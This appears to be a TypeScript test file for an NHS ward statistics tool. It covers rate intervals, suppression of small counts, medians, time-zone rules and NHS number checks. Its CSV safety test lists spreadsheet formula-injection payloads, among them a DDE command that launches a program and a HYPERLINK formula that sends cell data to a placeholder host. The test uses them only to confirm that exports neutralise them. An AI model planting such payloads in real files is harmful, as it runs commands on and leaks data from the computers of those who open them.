/** Rates, intervals, suppression, medians and time rules against hand-worked examples. */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  durationBucket,
  medianFromBuckets,
  poissonInterval,
  rateWithInterval,
  shareWithInterval,
  showCount,
  wilsonInterval,
  zeroReportingFlag,
} from './stats.ts';
import { ageBandAt, ethnicGroupOf } from './codes.ts';
import { fromLondonLocal, periodOf } from './time.ts';
import { neutralise, toCsv, unneutralise } from './csv.ts';
import { isValidNhsNumber } from './import-csv.ts';
import { parse } from 'csv-parse/sync';

const close = (actual: number | null, expected: number, places = 3) =>
  assert.ok(
    actual !== null && Math.abs(actual - expected) < 10 ** -places,
    `${actual} ≈ ${expected}`,
  );

describe('exact Poisson 95% intervals (Garwood), against worked values', () => {
  for (const [count, lower, upper] of [
    [0, 0, 3.6889],
    [1, 0.0253, 5.5716],
    [5, 1.6235, 11.6683],
    [10, 4.7954, 18.3904],
    [20, 12.2165, 30.8884],
    [100, 81.364, 121.6268],
  ] as const) {
    it(`count ${count}: ${lower} to ${upper}`, () => {
      const ci = poissonInterval(count);
      close(ci.lower, lower);
      close(ci.upper, upper);
    });
  }
});

describe('rates per denominator', () => {
  it('10 interventions in 2,000 bed days is 5.0 per 1,000 (2.40 to 9.20)', () => {
    const r = rateWithInterval(10, 2000, 1000);
    close(r.rate, 5);
    close(r.lower, 2.3977);
    close(r.upper, 9.1952);
  });
  it('12 incidents among 40 people is 30 per 100 people (15.5 to 52.4)', () => {
    const r = rateWithInterval(12, 40, 100);
    close(r.rate, 30);
    close(r.lower, 15.5014, 2);
    close(r.upper, 52.4051, 2);
  });
  it('suppresses counts from 1 to 4, and the rate made from them', () => {
    for (const n of [1, 2, 3, 4]) {
      const r = rateWithInterval(n, 1000, 1000);
      assert.equal(r.rate, null);
      assert.equal(r.suppressed, true);
      assert.equal(showCount(n), 'fewer than 5');
    }
    assert.equal(showCount(0), '0');
    assert.equal(showCount(5), '5');
    assert.equal(rateWithInterval(0, 1000, 1000).rate, 0);
  });
  it('shows no rate without a denominator', () => {
    assert.equal(rateWithInterval(20, 0, 100).rate, null);
    assert.equal(rateWithInterval(20, 0, 100).note, 'no denominator entered');
  });
});

describe('Wilson intervals for shares', () => {
  it('8 of 10 is 80% (49.0% to 94.3%)', () => {
    const w = wilsonInterval(8, 10)!;
    close(w.share, 0.8);
    close(w.lower, 0.4902);
    close(w.upper, 0.9433);
  });
  it('suppresses a share when either part is 1 to 4', () => {
    assert.equal(shareWithInterval(3, 20).share, null);
    assert.equal(shareWithInterval(17, 20).share, null);
    close(shareWithInterval(10, 20).share, 0.5);
  });
});

describe('durations', () => {
  it('puts minutes in buckets', () => {
    assert.deepEqual(
      [0, 9, 10, 11, 12, 59, 60, 20159, 20160, 99999].map(durationBucket),
      [0, 9, 10, 10, 11, 17, 18, 30, 31, 31],
    );
  });
  const med = (values: number[]) => {
    const m = new Map<number, number>();
    for (const v of values) m.set(durationBucket(v), (m.get(durationBucket(v)) ?? 0) + 1);
    return medianFromBuckets(m);
  };
  it('is exact for whole minutes under 10', () => {
    assert.equal(med([3, 5, 9]), 5);
    assert.equal(med([2, 4]), 3);
    assert.equal(med([]), null);
  });
  it('interpolates within a wider bucket (grouped median)', () => {
    // 30, 30 and 45: the middle value lies in the 30–40 bucket, which holds 2 values.
    assert.equal(med([30, 30, 45]), 37.5);
  });
});

describe('zero reporting', () => {
  it('flags a unit reporting none when 10 or more were expected', () => {
    assert.deepEqual(zeroReportingFlag(0, 6000, 16), { expected: 96, flagged: true });
    assert.equal(zeroReportingFlag(0, 500, 16).flagged, false);
    assert.equal(zeroReportingFlag(3, 6000, 16).flagged, false);
  });
});

describe('characteristics', () => {
  it('keeps several ethnic groups as given and reports them as more than one', () => {
    assert.equal(ethnicGroupOf(['A', 'M']), 'multiple');
    assert.equal(ethnicGroupOf(['D']), 'mixed');
    assert.equal(ethnicGroupOf(['Z']), 'not_stated');
    assert.equal(ethnicGroupOf([]), 'not_stated');
    assert.equal(ethnicGroupOf(['N', 'Z']), 'black');
  });
  it('works out the age band on the day', () => {
    assert.equal(ageBandAt('2000-06-15', '2018-06-14T12:00:00.000Z'), 'under_18');
    assert.equal(ageBandAt('2000-06-15', '2018-06-15T12:00:00.000Z'), '18_24');
    assert.equal(ageBandAt(null, '2018-06-15T12:00:00.000Z'), 'not_stated');
  });
});

describe('ward clock times', () => {
  it('turns London times into UTC', () => {
    assert.equal(fromLondonLocal('2026-07-01T10:00'), '2026-07-01T09:00:00.000Z');
    assert.equal(fromLondonLocal('2026-01-15T10:00'), '2026-01-15T10:00:00.000Z');
    // The hour that happens twice when clocks go back means the first one.
    assert.equal(fromLondonLocal('2026-10-25T01:30'), '2026-10-25T00:30:00.000Z');
  });
  it('refuses times that do not exist', () => {
    assert.equal(fromLondonLocal('2026-03-29T01:30'), null); // clocks go forward
    assert.equal(fromLondonLocal('2026-02-31T10:00'), null);
    assert.equal(fromLondonLocal('not a time'), null);
  });
  it('stores the London month as the period', () => {
    assert.equal(periodOf('2026-07-31T23:30:00.000Z'), '2026-08');
    assert.equal(periodOf('2026-01-31T23:30:00.000Z'), '2026-01');
    assert.equal(periodOf('2026-05-14T10:00:00.000Z'), '2026-05');
  });
});

describe('CSV safety', () => {
  it('neutralises formula-like cells and round-trips them exactly', () => {
    const nasty = [
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '=HYPERLINK("http://x?"&A1)',
      'line\nbreak',
      'plain, "quoted"',
    ];
    const csv = toCsv(
      ['A'],
      nasty.map((A) => ({ A })),
    );
    const rows = parse(csv, { columns: true }) as { A: string }[];
    for (const [n, r] of rows.entries()) {
      assert.ok(!/^[=+\-@\t\r]/.test(r.A), `cell ${n} must not start with a formula character`);
      assert.equal(unneutralise(r.A), nasty[n]);
    }
    assert.equal(neutralise('ordinary'), 'ordinary');
    assert.equal(unneutralise("'quoted"), "'quoted");
  });
  it('checks NHS numbers', () => {
    assert.equal(isValidNhsNumber('9434765919'), true);
    assert.equal(isValidNhsNumber('9434765918'), false);
    assert.equal(isValidNhsNumber('123'), false);
  });
});
